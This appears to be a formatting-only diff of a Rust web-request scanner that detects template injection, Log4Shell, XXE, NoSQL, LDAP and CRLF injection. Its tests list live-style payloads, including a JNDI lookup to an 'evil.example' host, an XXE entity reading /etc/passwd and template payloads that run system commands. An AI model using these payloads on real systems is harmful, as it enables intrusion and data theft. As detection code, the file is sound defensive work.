@@ -20,7 +20,14 @@ pub fn scan(view: &str, location: Location, hits: &mut Hits) {
     if memchr::memchr2(b';', b'&', bytes).is_some() || memchr::memchr(b'|', bytes).is_some() {
         nosql_javascript(view, hits);
     }
-    if matches!(location, Location::Path | Location::QueryName | Location::QueryValue | Location::Header | Location::Cookie) {
+    if matches!(
+        location,
+        Location::Path
+            | Location::QueryName
+            | Location::QueryValue
+            | Location::Header
+            | Location::Cookie
+    ) {
         crlf(view, hits);
     }
 }
@@ -29,7 +36,17 @@ pub fn scan(view: &str, location: Location, hits: &mut Hits) {
 /// `${7*7}`, `#{...}`, `<%= ... %>`, `{% ... %}` with calls, FreeMarker directives.
 fn template(view: &str, hits: &mut Hits) {
     let bytes = view.as_bytes();
-    for (open, close) in [("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("<%", "%>"), ("{%", "%}"), ("*{", "}"), ("@(", ")"), ("[[", "]]")] {
+    for (open, close) in [
+        ("{{", "}}"),
+        ("${", "}"),
+        ("#{", "}"),
+        ("<%=", "%>"),
+        ("<%", "%>"),
+        ("{%", "%}"),
+        ("*{", "}"),
+        ("@(", ")"),
+        ("[[", "]]"),
+    ] {
         let mut from = 0;
         while let Some(off) = memchr::memmem::find(&bytes[from..], open.as_bytes()) {
             let start = from + off;
@@ -44,7 +61,17 @@ fn template(view: &str, hits: &mut Hits) {
             }
         }
     }
-    for marker in ["<#assign", "<#list", "[#assign", "freemarker.template", "?new()", "#set(", "$class.inspect", "th:text", "__${"] {
+    for marker in [
+        "<#assign",
+        "<#list",
+        "[#assign",
+        "freemarker.template",
+        "?new()",
+        "#set(",
+        "$class.inspect",
+        "th:text",
+        "__${",
+    ] {
         if let Some(pos) = memchr::memmem::find(bytes, marker.as_bytes()) {
             hits.add(&rules::SSTI_EXPRESSION, view, pos);
             return;
@@ -66,14 +93,44 @@ fn template_code(open: &str, inner: &str, closed: bool) -> bool {
         .count()
         >= 2
         && inner.bytes().any(|b| matches!(b, b'*' | b'+' | b'/'))
-        && inner.bytes().all(|b| b.is_ascii_digit() || b" *+-/'\"".contains(&b));
-    let reach = ["config", "self", "request", "settings", "app.", "env", "class", "system", "runtime", "getclass", "os.", "lipsum", "cycler", "joiner", "namespace", "range", "_self", "dump"]
-        .iter()
-        .any(|w| inner.starts_with(w) || inner.contains(&format!(".{w}")) || inner.contains(&format!("|{w}")));
-    let filter = inner.contains("|attr") || inner.contains("|filter") || inner.contains("|join") || inner.contains("|map");
+        && inner
+            .bytes()
+            .all(|b| b.is_ascii_digit() || b" *+-/'\"".contains(&b));
+    let reach = [
+        "config",
+        "self",
+        "request",
+        "settings",
+        "app.",
+        "env",
+        "class",
+        "system",
+        "runtime",
+        "getclass",
+        "os.",
+        "lipsum",
+        "cycler",
+        "joiner",
+        "namespace",
+        "range",
+        "_self",
+        "dump",
+    ]
+    .iter()
+    .any(|w| {
+        inner.starts_with(w) || inner.contains(&format!(".{w}")) || inner.contains(&format!("|{w}"))
+    });
+    let filter = inner.contains("|attr")
+        || inner.contains("|filter")
+        || inner.contains("|join")
+        || inner.contains("|map");
     match open {
-        "{{" | "[[" => closed && (dunder || call || arithmetic || reach || filter || inner.contains('[')),
-        "${" | "#{" | "*{" => closed && (dunder || call || arithmetic || reach) && !inner.starts_with("jndi:"),
+        "{{" | "[[" => {
+            closed && (dunder || call || arithmetic || reach || filter || inner.contains('['))
+        }
+        "${" | "#{" | "*{" => {
+            closed && (dunder || call || arithmetic || reach) && !inner.starts_with("jndi:")
+        }
         "<%=" | "<%" => dunder || call || reach || arithmetic,
         "{%" => (dunder || call) && closed,
         "@(" => call || dunder,
@@ -110,8 +167,12 @@ fn log4shell(view: &str, hits: &mut Hits) {
         }
         i += 1;
     }
-    let lookup = ["jndi:", "env:", "sys:", "java:", "ctx:", "k8s:", "docker:", "main:", "bundle:", "spring:"];
-    if lookup.iter().any(|l| spelled.starts_with(l) || spelled.contains(&format!(":{l}")))
+    let lookup = [
+        "jndi:", "env:", "sys:", "java:", "ctx:", "k8s:", "docker:", "main:", "bundle:", "spring:",
+    ];
+    if lookup
+        .iter()
+        .any(|l| spelled.starts_with(l) || spelled.contains(&format!(":{l}")))
         || spelled.replace(':', "").contains("jndi")
     {
         hits.add(&rules::LOG4SHELL_LOOKUP, view, start);
@@ -124,7 +185,11 @@ fn xml(view: &str, hits: &mut Hits) {
     for marker in ["<!doctype", "<!entity", "<!element", "<!attlist"] {
         if let Some(pos) = memchr::memmem::find(bytes, marker.as_bytes()) {
             let rest = &view[pos..];
-            if marker != "<!doctype" || rest.contains('[') || rest.contains("system") || rest.contains("public") {
+            if marker != "<!doctype"
+                || rest.contains('[')
+                || rest.contains("system")
+                || rest.contains("public")
+            {
                 hits.add(&rules::XXE_DOCTYPE, view, pos);
                 return;
             }
@@ -137,17 +202,50 @@ fn xml(view: &str, hits: &mut Hits) {
     } else if let Some(pos) = memchr::memmem::find(bytes, b"%") {
         // A parameter-entity reference: `%xxe;`.
         let rest = &bytes[pos + 1..];
-        let name = rest.iter().take_while(|b| b.is_ascii_alphanumeric() || **b == b'_').count();
-        if name > 0 && rest.get(name) == Some(&b';') && rest[..name].iter().any(u8::is_ascii_alphabetic) {
+        let name = rest
+            .iter()
+            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
+            .count();
+        if name > 0
+            && rest.get(name) == Some(&b';')
+            && rest[..name].iter().any(u8::is_ascii_alphabetic)
+        {
             hits.add(&rules::XXE_XML_DECL, view, pos);
         }
     }
 }
 
 const MONGO_OPERATORS: &[&str] = &[
-    "ne", "eq", "gt", "gte", "lt", "lte", "in", "nin", "regex", "where", "exists", "or", "and",
-    "nor", "not", "expr", "function", "accumulator", "elemmatch", "all", "size", "type", "mod",
-    "text", "jsonschema", "comment", "lookup", "unionwith", "merge", "out",
+    "ne",
+    "eq",
+    "gt",
+    "gte",
+    "lt",
+    "lte",
+    "in",
+    "nin",
+    "regex",
+    "where",
+    "exists",
+    "or",
+    "and",
+    "nor",
+    "not",
+    "expr",
+    "function",
+    "accumulator",
+    "elemmatch",
+    "all",
+    "size",
+    "type",
+    "mod",
+    "text",
+    "jsonschema",
+    "comment",
+    "lookup",
+    "unionwith",
+    "merge",
+    "out",
 ];
 
 /// `{"$ne": null}`, `user[$ne]=x`, `$where: '1 == 1'`.
@@ -157,17 +255,25 @@ fn nosql_operator(view: &str, hits: &mut Hits) {
     while let Some(off) = memchr::memchr(b'$', &bytes[from..]) {
         let at = from + off;
         from = at + 1;
-        let before_ok = at == 0 || matches!(bytes[at - 1], b'{' | b'[' | b',' | b'"' | b'\'' | b' ' | b'(');
+        let before_ok = at == 0
+            || matches!(
+                bytes[at - 1],
+                b'{' | b'[' | b',' | b'"' | b'\'' | b' ' | b'('
+            );
         if !before_ok {
             continue;
         }
-        let name_len = bytes[at + 1..].iter().take_while(|b| b.is_ascii_alphabetic()).count();
+        let name_len = bytes[at + 1..]
+            .iter()
+            .take_while(|b| b.is_ascii_alphabetic())
+            .count();
         let name = &view[at + 1..at + 1 + name_len];
         let after = bytes.get(at + 1 + name_len);
         let after_ok = after.is_none_or(|b| matches!(b, b']' | b':' | b'"' | b'\'' | b' '));
         if after_ok && MONGO_OPERATORS.contains(&name) {
             // A bare word like `$in` in prose needs the structure around it.
-            let structured = at > 0 || after.is_some_and(|b| matches!(b, b']' | b':' | b'"' | b'\''));
+            let structured =
+                at > 0 || after.is_some_and(|b| matches!(b, b']' | b':' | b'"' | b'\''));
             if structured {
                 hits.add(&rules::NOSQLI_OPERATOR, view, at);
                 return;
@@ -179,13 +285,39 @@ fn nosql_operator(view: &str, hits: &mut Hits) {
 /// JavaScript injected into a MongoDB `$where` or map-reduce: `'; return true; var x='`,
 /// `' && this.password.match(/.*/)//`, `db.users.find()`.
 fn nosql_javascript(view: &str, hits: &mut Hits) {
-    let compact: String = view.chars().filter(|c| !c.is_whitespace()).take(4096).collect();
-    for marker in ["this.password", "this.passwordzz", ";return", "db.", "while(", "sleep(", "==", "||1", "&&this."] {
+    let compact: String = view
+        .chars()
+        .filter(|c| !c.is_whitespace())
+        .take(4096)
+        .collect();
+    for marker in [
+        "this.password",
+        "this.passwordzz",
+        ";return",
+        "db.",
+        "while(",
+        "sleep(",
+        "==",
+        "||1",
+        "&&this.",
+    ] {
         if let Some(pos) = compact.find(marker) {
             let strong = match marker {
-                "db." => compact[pos..].contains('(') && (pos == 0 || !compact.as_bytes()[pos - 1].is_ascii_alphanumeric()),
-                "==" => compact.starts_with("||") || compact.contains("'=='") || compact.contains("||1=="),
-                ";return" => compact[..pos].ends_with(['\'', '"']) || compact[..pos].ends_with('0') || pos == 0 || compact[..pos].contains('\''),
+                "db." => {
+                    compact[pos..].contains('(')
+                        && (pos == 0 || !compact.as_bytes()[pos - 1].is_ascii_alphanumeric())
+                }
+                "==" => {
+                    compact.starts_with("||")
+                        || compact.contains("'=='")
+                        || compact.contains("||1==")
+                }
+                ";return" => {
+                    compact[..pos].ends_with(['\'', '"'])
+                        || compact[..pos].ends_with('0')
+                        || pos == 0
+                        || compact[..pos].contains('\'')
+                }
                 "sleep(" | "while(" => compact[..pos].contains(['\'', '"', ';']),
                 _ => true,
             };
@@ -200,7 +332,11 @@ fn nosql_javascript(view: &str, hits: &mut Hits) {
 /// Closing an LDAP filter and opening another: `*)(uid=*))(|(uid=*`, `admin)(&)`,
 /// `*(|(mail=*))`.
 fn ldap(view: &str, hits: &mut Hits) {
-    let compact: String = view.chars().filter(|c| !c.is_whitespace()).take(4096).collect();
+    let compact: String = view
+        .chars()
+        .filter(|c| !c.is_whitespace())
+        .take(4096)
+        .collect();
     let b = compact.as_bytes();
     if compact.contains("(&)") || compact.contains("(|)") {
         hits.add(&rules::LDAPI_FILTER, view, 0);
@@ -249,7 +385,10 @@ fn crlf(view: &str, hits: &mut Hits) {
         while i < bytes.len() && matches!(bytes[i], b' ' | b'\t') {
             i += 1;
         }
-        let name = bytes[i..].iter().take_while(|b| b.is_ascii_alphanumeric() || **b == b'-').count();
+        let name = bytes[i..]
+            .iter()
+            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'-')
+            .count();
         if name > 0 && bytes.get(i + name) == Some(&b':') {
             hits.add(&rules::CRLF_HEADER, view, at);
             return;
@@ -263,8 +402,8 @@ fn crlf(view: &str, hits: &mut Hits) {
 
 #[cfg(test)]
 mod tests {
-    use crate::test_support::{families, families_at};
     use crate::Location;
+    use crate::test_support::{families, families_at};
 
     #[test]
     fn the_smaller_languages_are_found() {
@@ -274,11 +413,17 @@ mod tests {
             ("${7*7}", "ssti"),
             ("{{''.__class__.__mro__[1].__subclasses__()}}", "ssti"),
             ("<%= system('id') %>", "ssti"),
-            ("<#assign ex=\"freemarker.template.utility.Execute\"?new()>", "ssti"),
+            (
+                "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
+                "ssti",
+            ),
             ("${jndi:ldap://evil.example/a}", "log4shell"),
             ("${${lower:j}ndi:${lower:l}dap://x/a}", "log4shell"),
             ("${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "log4shell"),
-            ("<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "xxe"),
+            (
+                "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
+                "xxe",
+            ),
             ("{\"$ne\": null}", "nosqli"),
             ("[$ne]=1", "nosqli"),
             ("true, $where: '1 == 1'", "nosqli"),
@@ -286,10 +431,15 @@ mod tests {
             ("*)(uid=*))(|(uid=*", "ldapi"),
             ("admin)(&)", "ldapi"),
         ] {
-            assert!(families(attack, 1).contains(&family), "missed {family}: {attack}");
+            assert!(
+                families(attack, 1).contains(&family),
+                "missed {family}: {attack}"
+            );
         }
         assert!(families_at("x\r\nSet-Cookie: a=b", Location::QueryValue, 1).contains(&"crlf"));
-        assert!(families_at("%0d%0aLocation:%20http://evil", Location::Header, 1).contains(&"crlf"));
+        assert!(
+            families_at("%0d%0aLocation:%20http://evil", Location::Header, 1).contains(&"crlf")
+        );
     }
 
     #[test]
@@ -305,9 +455,15 @@ mod tests {
             "100% sure",
             "${HOME}",
         ] {
-            assert!(families(benign, 1).is_empty(), "false positive: {benign} {:?}", families(benign, 1));
+            assert!(
+                families(benign, 1).is_empty(),
+                "false positive: {benign} {:?}",
+                families(benign, 1)
+            );
         }
         // A line break in a body's text is prose, not a header.
-        assert!(!families_at("Dear team,\nNote: see below", Location::BodyValue, 1).contains(&"crlf"));
+        assert!(
+            !families_at("Dear team,\nNote: see below", Location::BodyValue, 1).contains(&"crlf")
+        );
     }
 }
